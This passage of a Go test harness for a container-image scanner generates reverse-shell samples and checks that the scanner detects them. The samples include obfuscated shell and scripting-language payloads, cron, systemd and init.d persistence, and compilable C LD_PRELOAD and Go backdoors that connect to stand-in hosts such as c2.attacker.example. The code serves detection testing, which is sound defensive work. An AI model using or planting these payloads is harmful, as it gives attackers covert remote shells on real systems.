				// systemd splits an Exec line into words itself: in its quotes a backslash is a C
				// escape, and it expands $VAR and %x, so a unit writes the shell's code as one
				// double-quoted word with \\, \", $$ and %%.
				code := strings.NewReplacer(`\`, `\\`, `"`, `\"`, "$", "$$", "%", "%%").Replace(joinLines(s))
				return "[Unit]\nDescription=helper\n[Service]\nExecStart=/bin/bash -c \"" + code + "\"\nRestart=always\n[Install]\nWantedBy=multi-user.target\n"
			}, 0o644, true},
		{"profile.d", func(i int) string { return fmt.Sprintf("/etc/profile.d/z%03d.sh", i) }, func(s string) string { return s }, 0o644, true},
		{"init.d", func(i int) string { return fmt.Sprintf("/etc/init.d/svc%03d", i) }, func(s string) string { return "#!/bin/sh\n" + s }, 0o755, true},
	}
}

func shellVariants() []variant {
	r := harnessRand(1)
	var out []variant
	n := 0
	shellsUsed := []string{"/bin/sh", "/bin/bash", "bash", "sh", "/usr/bin/dash"}
	for si, s := range shellSeeds {
		// The seed as written, then one change at a time, then random combinations.
		var opts []shellOpts
		base := shellOpts{shell: "/bin/bash"}
		opts = append(opts, base)
		for _, f := range []func(*shellOpts){
			func(o *shellOpts) { o.hostVars = true },
			func(o *shellOpts) { o.hostVars, o.names = true, 3 },
			func(o *shellOpts) { o.quote = 1 },
			func(o *shellOpts) { o.quote = 2 },
			func(o *shellOpts) { o.join = "; " },
			func(o *shellOpts) { o.join = " && " },
			func(o *shellOpts) { o.cont = true },
			func(o *shellOpts) { o.comments = true },
			func(o *shellOpts) { o.wrap = "function" },
			func(o *shellOpts) { o.wrap = "function"; o.hostVars = true },
			func(o *shellOpts) { o.wrap = "loop" },
			func(o *shellOpts) { o.wrap = "background" },
			func(o *shellOpts) { o.wrap = "subshell" },
			func(o *shellOpts) { o.layers = 1 },
			func(o *shellOpts) { o.layers, o.layerForm = 1, 1 },
			func(o *shellOpts) { o.layers, o.layerForm = 1, 2 },
			func(o *shellOpts) { o.layers, o.layerForm = 1, 3 },
			func(o *shellOpts) { o.layers = 2 },
			func(o *shellOpts) { o.layers, o.layerForm = 3, 1 },
		} {
			o := base
			f(&o)
			opts = append(opts, o)
		}
		for k := 0; k < 12; k++ {
			opts = append(opts, shellOpts{
				hostVars: r.IntN(2) == 0, names: r.IntN(len(varSets)), shell: shellsUsed[r.IntN(len(shellsUsed))],
				quote: r.IntN(3), join: []string{"", "; ", " && "}[r.IntN(3)], comments: r.IntN(2) == 0,
				wrap: []string{"", "function", "loop", "background", "subshell"}[r.IntN(5)], layers: r.IntN(4), layerForm: r.IntN(4),
				cont: r.IntN(4) == 0,
			})
		}
		pls := placements()
		for oi, o := range opts {
			pl := pls[(si+oi)%len(pls)]
			if pl.persist && pl.name != "profile.d" && pl.name != "init.d" {
				// One line: a crontab line or an Exec= line holds no comments or continuations.
				o.comments, o.cont, o.oneLine = false, false, true
			}
			host, port := hosts[(si+oi)%len(hosts)], ports[(si*3+oi)%len(ports)]
			text := renderShell(s, o, host, port, fmt.Sprintf("/tmp/.f%d", oi))
			cats := []audit.Category{s.cat}
			if pl.persist {
				cats = append(cats, audit.CategoryPersistence)
			}
			n++
			out = append(out, variant{tech: s.tech, path: pl.path(n), text: pl.render(text), mode: pl.mode, cats: cats,
				desc: fmt.Sprintf("seed %d %+v in %s", si, o, pl.name)})
		}
	}
	return out
}

// Language transforms.
type langOpts struct {
	names    int
	hostVar  bool // the peer in variables
	concat   bool // the shell's path built by concatenation
	comments bool
	quotes   bool // the other quote character where the language allows
	upper    bool // identifiers in another case where the language allows (PHP)
	layers   int  // base64 layers, run by the language itself
	inline   int  // 0 a file of the language, 1 inline in a shell script (-c/-e/-r), 2 a cron line running it inline
}

var langExt = map[string]string{"python": ".py", "perl": ".pl", "ruby": ".rb", "php": ".php", "node": ".js", "lua": ".lua", "awk": ".awk",
	"java": ".groovy", "tcl": ".tcl", "r": ".r", "c": ".c", "rust": ".rs", "go": ".go"}

func renderLang(s langSeed, o langOpts, host, port string) string {
	names := [][3]string{{"s", "c", "p"}, {"sock", "conn", "proc"}, {"x1", "x2", "x3"}, {"_k", "_q", "_w"}}[o.names%4]
	sigil := ""
	hq, pq, shq := `"`+host+`"`, port, `"/bin/sh"`
	if o.concat {
		shq = `"/bin/" + "sh"`
		switch s.lang {
		case "perl", "php":
			shq = `"/bin/" . "sh"`
		case "lua":
			shq = `"/bin/" .. "sh"`
		}
	}
	code := s.code
	var pre string
	if o.hostVar && s.lang != "awk" {
		hv, pv := names[0]+"h", names[0]+"t"
		switch s.lang {
		case "perl", "php":
			sigil = "$"
			pre = fmt.Sprintf("$%s=%s;$%s=%s;\n", hv, hq, pv, pq)
		case "node":
			pre = fmt.Sprintf("var %s=%s,%s=%s;\n", hv, hq, pv, pq)
		case "lua":
			pre = fmt.Sprintf("local %s=%s\nlocal %s=%s\n", hv, hq, pv, pq)
		case "java":
			pre = fmt.Sprintf("var %s=%s;var %s=%s;\n", hv, hq, pv, pq)
		case "tcl":
			sigil = "$"
			pre = fmt.Sprintf("set %s %s\nset %s %s\n", hv, hq, pv, pq)
		case "r":
			pre = fmt.Sprintf("%s<-%s\n%s<-%s\n", hv, hq, pv, pq)
		default:
			pre = fmt.Sprintf("%s=%s\n%s=%s\n", hv, hq, pv, pq)
		}
		hq, pq = sigil+hv, sigil+pv
	}
	code = strings.NewReplacer("{HQ}", hq, "{P}", pq, "{SHQ}", shq, "{SH}", "/bin/sh", "{H}", host,
		"{s}", names[0], "{c}", names[1], "{p}", names[2]).Replace(code)
	if s.lang == "php" {
		code = "<?php\n" + pre + code + "\n?>"
		pre = ""
	} else {
		code = pre + code
	}
	if o.quotes && (s.lang == "python" || s.lang == "ruby" || s.lang == "node" || s.lang == "lua") {
		code = strings.ReplaceAll(code, `"`, `'`)
	}
	if o.upper && s.lang == "php" {
		code = strings.NewReplacer("fsockopen", "FsockOpen", "exec(", "EXEC(", "proc_open", "Proc_Open").Replace(code)
	}
	if o.comments {
		c := map[string]string{"python": "# ", "perl": "# ", "ruby": "# ", "php": "// ", "node": "// ", "lua": "-- ", "awk": "# ",
			"java": "// ", "tcl": "# ", "r": "# ", "c": "// ", "rust": "// ", "go": "// "}[s.lang]
		var out []string
		for _, l := range strings.Split(code, "\n") {
			if s.lang == "awk" || strings.HasPrefix(l, "<?php") {
				out = append(out, l)
				continue
			}
			out = append(out, c+"socket connect dup2 /bin/sh: keeps the tunnel up", l)
		}
		code = strings.Join(out, "\n")
	}
	for i := 0; i < o.layers; i++ {
		b := base64.StdEncoding.EncodeToString([]byte(strings.TrimPrefix(strings.TrimSuffix(code, "\n?>"), "<?php\n")))
		switch s.lang {
		case "python":
			code = "import base64\nexec(base64.b64decode(\"" + b + "\"))"
		case "perl":
			code = "use MIME::Base64;\neval(decode_base64(\"" + b + "\"));"
		case "ruby":
			code = "require 'base64'\neval(Base64.decode64(\"" + b + "\"))"
		case "php":
			code = "<?php\neval(base64_decode(\"" + b + "\"));\n?>"
		case "node":
			code = "eval(Buffer.from(\"" + b + "\",\"base64\").toString())"
		default:
			// No decoder in the language: decoded by the shell that runs it.
			o.layers = 0
			return shellDecodeLang(s.lang, code, i+1)
		}
	}
	return code
}

// shellDecodeLang runs code through n layers of base64 decoded by the shell.
func shellDecodeLang(lang, code string, n int) string {
	prog := map[string]string{"lua": "lua -e", "awk": "awk", "python": "python3 -c", "perl": "perl -e", "ruby": "ruby -e", "php": "php -r", "node": "node -e",
		"java": "jrunscript -e", "tcl": "expect -c", "r": "Rscript -e"}[lang]
	b := base64.StdEncoding.EncodeToString([]byte(code))
	s := prog + " \"$(echo " + b + " | base64 -d)\""
	for i := 1; i < n; i++ {
		s = "echo " + base64.StdEncoding.EncodeToString([]byte(s)) + " | base64 -d | sh"
	}
	return "#!/bin/sh\n" + s + "\n"
}

// oneLineCode puts code on one line the way its language allows: statements joined by "; "
// (Python's indented blocks through exec of the code as a string with \n escapes).
func oneLineCode(lang, code string) string {
	if !strings.Contains(code, "\n") {
		return code
	}
	if lang == "python" && strings.Contains(code, "\n ") {
		return "exec(" + fmt.Sprintf("%q", code) + ")"
	}
	var parts []string
	for _, l := range strings.Split(code, "\n") {
		// A comment would swallow the rest of the line.
		if l = strings.TrimSpace(l); l != "" && !strings.HasPrefix(l, "#") && !strings.HasPrefix(l, "//") && !strings.HasPrefix(l, "--") {
			parts = append(parts, l)
		}
	}
	sep := "; "
	switch lang {
	case "perl", "php", "node", "awk":
		sep = " "
	case "lua":
		sep = " "
	}
	return strings.Join(parts, sep)
}

func inlineCmd(lang, code string) string {
	prog := map[string]string{"python": "python3 -c", "perl": "perl -e", "ruby": "ruby -rsocket -e", "php": "php -r", "node": "node -e", "lua": "lua5.3 -e", "awk": "gawk",
		"java": "jrunscript -e", "tcl": "expect -c", "r": "Rscript -e"}[lang]
	if lang == "php" {
		code = strings.TrimSpace(strings.TrimSuffix(strings.TrimPrefix(code, "<?php\n"), "?>"))
	}
	return prog + " " + shellQuote(code)
}

func langVariants() []variant {
	r := harnessRand(2)
	var out []variant
	n := 0
	for si, s := range langSeeds {
		opts := []langOpts{{}, {names: 1}, {hostVar: true}, {concat: true}, {comments: true}, {quotes: true}, {upper: true},
			{layers: 1}, {layers: 2}, {layers: 3}, {inline: 1}, {inline: 2}, {inline: 1, layers: 1}, {hostVar: true, concat: true, names: 2}}
		for k := 0; k < 8; k++ {
			opts = append(opts, langOpts{names: r.IntN(4), hostVar: r.IntN(2) == 0, concat: r.IntN(2) == 0, comments: r.IntN(2) == 0,
				quotes: r.IntN(2) == 0, upper: r.IntN(2) == 0, layers: r.IntN(4), inline: r.IntN(3)})
		}
		for oi, o := range opts {
			switch s.lang {
			case "c", "rust", "go":
				// Source files of compiled languages: no inline form, no encoded stage.
				o.inline, o.layers, o.hostVar = 0, 0, false
				o.concat = o.concat && s.lang == "go"
			case "tcl", "r":
				o.concat = false
			}
			host, port := hosts[(si+oi)%len(hosts)], ports[(si+oi)%len(ports)]
			code := renderLang(s, o, host, port)
			n++
			v := variant{tech: s.tech, cats: []audit.Category{s.cat}, desc: fmt.Sprintf("seed %d %+v", si, o)}
			switch {
			case strings.HasPrefix(code, "#!/bin/sh\n"):
				v.path, v.text, v.mode = fmt.Sprintf("/usr/local/bin/%s-%03d", s.lang, n), code, 0o755
			case o.inline == 1:
				v.path, v.text, v.mode = fmt.Sprintf("/opt/%s/run%03d.sh", s.lang, n), "#!/bin/sh\n"+inlineCmd(s.lang, code)+" &\n", 0o755
			case o.inline == 2:
				// A crontab line: the code on one line, and % written \%.
				line := strings.ReplaceAll(inlineCmd(s.lang, oneLineCode(s.lang, code)), "%", `\%`)
				v.path, v.text, v.mode = fmt.Sprintf("/etc/cron.d/%s%03d", s.lang, n), "*/3 * * * * root "+line+"\n", 0o644
				v.cats = append(v.cats, audit.CategoryPersistence)
			default:
				dir := map[string]string{"php": "/var/www/html/uploads", "node": "/app/node_modules/left-pad/lib"}[s.lang]
				if dir == "" {
					dir = "/usr/lib/" + s.lang + "/site"
				}
				v.path, v.text, v.mode = fmt.Sprintf("%s/m%03d%s", dir, n, langExt[s.lang]), code, 0o644
				if s.lang == "awk" {
					v.text = "#!/usr/bin/gawk -f\n" + code
				}
			}
			out = append(out, v)
		}
	}
	return out
}

func fileVariants() []variant {
	var out []variant
	for i, s := range fileSeeds() {
		out = append(out, variant{tech: s.tech, path: s.path, text: s.text, mode: s.mode, cats: s.cats, desc: fmt.Sprintf("file seed %d", i)})
		// The same file placed a second time with comments and blank lines around, where the
		// format allows it, and with its indicators in other spellings.
		text := s.text
		switch {
		case strings.HasSuffix(s.path, ".json"):
			text = strings.ReplaceAll(text, ", ", ",\n    ")
		case strings.HasPrefix(text, "#!"):
			nl := strings.IndexByte(text, '\n') + 1
			text = text[:nl] + "# maintenance\n\n" + text[nl:] + "\n# end\n"
		case strings.Contains(s.path, "authorized_keys"):
			text = "# keys\n\n" + text
		case strings.Contains(s.path, "systemd"):
			text = "# managed\n" + text
		default:
			text = "# added by ops\n\n" + text + "\n"
		}
		p := s.path
		switch {
		case strings.HasPrefix(p, "/etc/cron.d/"), strings.HasPrefix(p, "/var/spool/cron/crontabs/"), strings.HasPrefix(p, "/usr/local/bin/"),
			strings.HasPrefix(p, "/opt/"), strings.HasPrefix(p, "/etc/profile.d/"), strings.HasPrefix(p, "/etc/update-motd.d/"):
			p += "-b"
		case strings.HasSuffix(p, ".service"):
			p = strings.TrimSuffix(p, ".service") + "-b.service"
		case strings.HasSuffix(p, ".json"):
			p = strings.TrimSuffix(p, ".json") + "-b.json"
		case strings.HasSuffix(p, ".conf"):
			p = strings.TrimSuffix(p, ".conf") + "-b.conf"
		case strings.Contains(p, "authorized_keys"):
			p = strings.Replace(p, "/root/", "/home/admin/", 1)
			if s.cats[0] == audit.CategorySSHKey {
				s.cats = []audit.Category{audit.CategorySSHKey}
			}
		default:
			continue // one file per place: /etc/crontab, /etc/rc.local, /etc/ld.so.preload
		}
		out = append(out, variant{tech: s.tech, path: p, text: text, mode: s.mode, cats: s.cats, desc: fmt.Sprintf("file seed %d, reformatted", i)})
	}
	return out
}

// compiledVariants builds our own LD_PRELOAD and Go samples (never run) when a compiler is
// there.
func compiledVariants(t *testing.T) []variant {
	var out []variant
	dir := t.TempDir()
	if _, err := exec.LookPath("gcc"); err == nil {
		libs := []struct{ name, src string }{
			{"constructor", `#include <arpa/inet.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>
__attribute__((constructor)) static void init(void) {
	if (fork() != 0) return;
	struct sockaddr_in a = {0};
	a.sin_family = AF_INET; a.sin_port = htons(4444);
	inet_pton(AF_INET, "203.0.113.45", &a.sin_addr);
	int s = socket(AF_INET, SOCK_STREAM, 0);
	if (connect(s, (struct sockaddr *)&a, sizeof a)) _exit(0);
	dup2(s, 0); dup2(s, 1); dup2(s, 2);
	execl("/bin/sh", "sh", (char *)0);
}`},
			{"accept-hook", `#define _GNU_SOURCE
#include <dlfcn.h>
#include <sys/socket.h>
#include <unistd.h>
static int (*real_accept)(int, struct sockaddr *, socklen_t *);
int accept(int fd, struct sockaddr *a, socklen_t *l) {
	if (!real_accept) real_accept = dlsym(RTLD_NEXT, "accept");
	int c = real_accept(fd, a, l);
	char b[4];
	if (c >= 0 && recv(c, b, 4, MSG_PEEK) == 4 && b[0] == 'k' && fork() == 0) {
		dup2(c, 0); dup2(c, 1); dup2(c, 2);
		execl("/bin/bash", "bash", "-i", (char *)0);
	}
	return c;
}`},
			{"pty-accept", `#define _GNU_SOURCE
#include <dlfcn.h>
#include <pty.h>
#include <sys/select.h>
#include <sys/socket.h>
#include <unistd.h>
static char k[] = {0x6c,0x21,0x2a,0x2d,0x6c,0x21,0x22,0x30,0x2b,0}; /* "/bin/bash" ^ 0x43 */
static int (*next_accept)(int, struct sockaddr *, socklen_t *);
int accept(int fd, struct sockaddr *a, socklen_t *l) {
	if (!next_accept) next_accept = dlsym(RTLD_NEXT, "accept");
	int c = next_accept(fd, a, l), m;
	char b[256];
	if (c >= 0 && fork() == 0) {
		if (forkpty(&m, 0, 0, 0) == 0) { for (int i = 0; k[i]; i++) k[i] ^= 0x43; execl(k, k, "-i", (char *)0); }
		for (int n;;) { fd_set s; FD_ZERO(&s); FD_SET(c, &s); FD_SET(m, &s); select(64, &s, 0, 0, 0);
			if (FD_ISSET(c, &s) && (n = read(c, b, sizeof b)) > 0) write(m, b, n);
			if (FD_ISSET(m, &s) && (n = read(m, b, sizeof b)) > 0) write(c, b, n); }
	}
	return c;
}`},
		}
		for i, l := range libs {
			src := filepath.Join(dir, l.name+".c")
			so := filepath.Join(dir, l.name+".so")
			if err := os.WriteFile(src, []byte(l.src), 0o644); err != nil {
				t.Fatal(err)
			}
			if b, err := exec.Command("gcc", "-shared", "-fPIC", "-O2", "-o", so, src, "-lutil").CombinedOutput(); err != nil {
				t.Logf("gcc: %v %s", err, b)
				continue
			}
			data, _ := os.ReadFile(so)
			for j, p := range []string{"/usr/local/lib/lib%s.so", "/lib/x86_64-linux-gnu/.lib%s.so.1"} {
				out = append(out, variant{tech: "ld-preload-lib", path: fmt.Sprintf(p, l.name), text: string(data), mode: 0o755,
					cats: []audit.Category{audit.CategoryLDPreload, audit.CategoryReverseShell}, desc: fmt.Sprintf("lib %d place %d", i, j)})
			}
		}
		// Stripped and with symbols, static.
		src := filepath.Join(dir, "static.c")
		os.WriteFile(src, []byte(`#include <arpa/inet.h>
#include <sys/socket.h>
#include <unistd.h>
int main(void) {
	struct sockaddr_in a = {0};
	a.sin_family = AF_INET; a.sin_port = htons(443);
	inet_pton(AF_INET, "198.51.100.7", &a.sin_addr);
	int s = socket(AF_INET, SOCK_STREAM, 0);
	if (connect(s, (struct sockaddr *)&a, sizeof a)) return 1;
	for (int i = 0; i < 3; i++) dup2(s, i);
	char *v[] = {"/bin/sh", 0};
	return execve(v[0], v, 0);
}`), 0o644)
		for i, flags := range [][]string{{"-static", "-O2"}, {"-static", "-O2", "-s"}, {"-static", "-O0", "-s"}} {
			static := filepath.Join(dir, fmt.Sprintf("static%d", i))
			if b, err := exec.Command("gcc", append(flags, "-o", static, src)...).CombinedOutput(); err == nil {
				data, _ := os.ReadFile(static)
				out = append(out, variant{tech: "static-binary", path: fmt.Sprintf("/usr/sbin/netmond%d", i), text: string(data), mode: 0o755,
					cats: []audit.Category{audit.CategoryReverseShell}, desc: "static glibc " + strings.Join(flags, " ")})
			} else {
				t.Logf("gcc %v: %v %s", flags, err, b)
			}
		}
	}
	goSrc := `package main

import (
	"net"
	"os/exec"
	"time"
)

func main() {
	for {
		if c, err := net.Dial("tcp", "%s"); err == nil {
			cmd := exec.Command("%s", "-i")
			cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c
			_ = cmd.Run()
		}
		time.Sleep(30 * time.Second)
	}
}
`
	// A program with a hundred functions of its own is found by what its main package calls.
	var helpers strings.Builder
	helpers.WriteString("\nvar total int\n\nfunc init() {\n")
	for i := 0; i < 100; i++ {
		fmt.Fprintf(&helpers, "\ttotal += step%d(%d)\n", i, i)
	}
	helpers.WriteString("}\n")
	for i := 0; i < 100; i++ {
		fmt.Fprintf(&helpers, "\n//go:noinline\nfunc step%d(x int) int { return x*%d + x/3 }\n", i, i+5)
	}
	for i, v := range [][4]string{{"203.0.113.45:4444", "/bin/sh", "-s -w", ""}, {"c2.attacker.example:443", "/bin/bash", "", ""},
		{"198.51.100.7:8443", "/bin/sh", "-s -w", helpers.String()}} {
		d := filepath.Join(dir, fmt.Sprintf("go%d", i))
		os.MkdirAll(d, 0o755)
		os.WriteFile(filepath.Join(d, "main.go"), []byte(fmt.Sprintf(goSrc, v[0], v[1])+v[3]), 0o644)
		os.WriteFile(filepath.Join(d, "go.mod"), []byte("module example.org/agent\n\ngo 1.21\n"), 0o644)
		bin := filepath.Join(d, "agent")
		goBin, err := exec.LookPath("go")
		if err != nil {
			t.Logf("no go command: %v", err)
			break
		}
		cmd := exec.Command(goBin, "build", "-trimpath", "-ldflags="+v[2], "-o", bin, ".")
		cmd.Dir = d
		cmd.Env = append(os.Environ(), "CGO_ENABLED=0", "GOFLAGS=-mod=mod")
		if b, err := cmd.CombinedOutput(); err != nil {
			t.Logf("go build: %v %s", err, b)
			continue
		}
		data, _ := os.ReadFile(bin)
		out = append(out, variant{tech: "go-binary", path: fmt.Sprintf("/usr/local/bin/.agent%d", i), text: string(data), mode: 0o755,
			cats: []audit.Category{audit.CategoryReverseShell}, desc: "go " + v[0]})
	}
	return out
}

// TestHarness builds one image holding every variant (spread over two layers, one of them
// later whited out for some), scans it with the standard analyzers and checks each variant is
// found with its categories at its layer.
func TestHarness(t *testing.T) {
	if testing.Short() {
		t.Skip("builds and scans the harness image")
	}
	var vs []variant
	vs = append(vs, shellVariants()...)
	vs = append(vs, langVariants()...)
	vs = append(vs, fileVariants()...)
	vs = append(vs, compiledVariants(t)...)
	// A path holds one variant per image: variants that share a place (/etc/ld.so.preload)
	// go into further images. In each image, variants alternate between two layers, and
	// every tenth one of the first is whited out by a third: still found, at its layer.
	var images [][]int
	used := []map[string]bool{}
	for i := range vs {
		k := 0
		for k < len(used) && used[k][vs[i].path] {
			k++
		}
		if k == len(used) {
			used = append(used, map[string]bool{})
			images = append(images, nil)
		}
		used[k][vs[i].path] = true
		images[k] = append(images[k], i)
	}
	byPath := map[string][]audit.Finding{} // image index + path
	for k, idx := range images {
		var layer1, layer2, wh []imagebuild.File
		for n, i := range idx {
			v := &vs[i]
			f := imagebuild.RegBytes(strings.TrimPrefix(v.path, "/"), []byte(v.text)).WithMode(v.mode)
			if n%2 == 0 {
				v.layer = 1
				layer1 = append(layer1, f)
				if n%10 == 0 {
					wh = append(wh, imagebuild.Whiteout(strings.TrimPrefix(v.path, "/")))
				}
			} else {
				v.layer = 2
				layer2 = append(layer2, f)
			}
		}
		img := imagebuild.Image{Tags: []string{fmt.Sprintf("harness:%d", k)}, Layers: []imagebuild.Layer{
			{CreatedBy: "/bin/sh -c #(nop) ADD file:base in / ", Files: []imagebuild.File{imagebuild.Reg("etc/hostname", "h\n")}},
			{CreatedBy: "COPY variants-a / # buildkit", Files: layer1},
			{CreatedBy: "COPY variants-b / # buildkit", Files: layer2},
			{CreatedBy: "RUN /bin/sh -c rm -f ... # buildkit", Files: wh},
		}}
		res := scanImage(t, img)
		for _, f := range res.Findings {
			key := fmt.Sprint(k) + f.Path
			byPath[key] = append(byPath[key], f)
		}
		for _, i := range idx {
			vs[i].image = k
		}
	}
	type tally struct{ found, total int }
	tallies := map[string]*tally{}
	var misses []string
	for _, v := range vs {
		tl := tallies[v.tech]
		if tl == nil {
			tl = &tally{}
			tallies[v.tech] = tl
		}
		tl.total++
		key := fmt.Sprint(v.image) + v.path
		if found(byPath[key], v) {
			tl.found++
			continue
		}
		misses = append(misses, fmt.Sprintf("%s %s (%s) want %v at layer %d; got %s\n--- %s\n%s", v.tech, v.path, v.desc, v.cats, v.layer,
			describe(byPath[key]), v.path, excerpt(v.text)))
	}
	techs := make([]string, 0, len(tallies))
	for k := range tallies {
		techs = append(techs, k)
	}
	sort.Strings(techs)
	total, hit := 0, 0
	for _, k := range techs {
		tl := tallies[k]
		total, hit = total+tl.total, hit+tl.found
		fmt.Printf("harness: %s %d/%d recall=%.3f\n", k, tl.found, tl.total, float64(tl.found)/float64(tl.total))
	}
	t.Logf("all techniques: %d/%d", hit, total)
	for _, m := range misses {
		t.Errorf("missed %s", m)
	}
}

// found reports a finding of at least medium severity at the variant's path and layer whose
// categories (primary and labels) hold every category the variant wants.
func found(fs []audit.Finding, v variant) bool {
	have := map[audit.Category]bool{}
	for _, f := range fs {
		if f.Layer != v.layer || f.Severity < audit.Medium {
			continue
		}
		for _, c := range f.Categories() {
			have[c] = true
		}
	}
	for _, c := range v.cats {
		if !have[c] {
			return false
		}
	}
	return true
}

func describe(fs []audit.Finding) string {
	if len(fs) == 0 {
		return "nothing"
	}
	var out []string
	for _, f := range fs {
		out = append(out, fmt.Sprintf("%s %s %v L%d", f.Rule, f.Severity, f.Categories(), f.Layer))
	}
	return strings.Join(out, "; ")
}

func excerpt(s string) string {
	if len(s) > 600 || strings.ContainsRune(s, 0) {
		if strings.ContainsRune(s, 0) {
			return fmt.Sprintf("(%d bytes of binary)", len(s))
		}
		return s[:600] + "…"
	}
	return s
}

func scanImage(t *testing.T, recipe imagebuild.Image) *audit.Result {
	t.Helper()
	return scanImageWith(t, recipe, standard.Options{})
}

// scanImageWith scans the image the recipe builds with the standard analyzers opts choose
// (their rules compiled here).
func scanImageWith(t *testing.T, recipe imagebuild.Image, opts standard.Options) *audit.Result {
	t.Helper()
	b, err := imagebuild.Build(recipe)
	if err != nil {
		t.Fatal(err)
	}
	p := filepath.Join(t.TempDir(), "image.tar")
	f, err := os.Create(p)
	if err != nil {
		t.Fatal(err)
	}
	if err := imagebuild.WriteDockerArchive(f, imagebuild.Classic, b); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
	rules, err := signatures.Compile(signatures.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer rules.Close()
	opts.Rules = rules
	set, err := standard.New(opts)
	if err != nil {
		t.Fatal(err)
	}
	defer set.Close()
	img, err := forensics.Open(context.Background(), p, forensics.OpenOptions{TempDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	defer img.Close()
	res, err := audit.Scan(context.Background(), img, audit.Options{Analyzers: set.Analyzers})
	if err != nil {
		t.Fatal(err)
	}
	return res
}

var _ = slices.Contains[[]string]
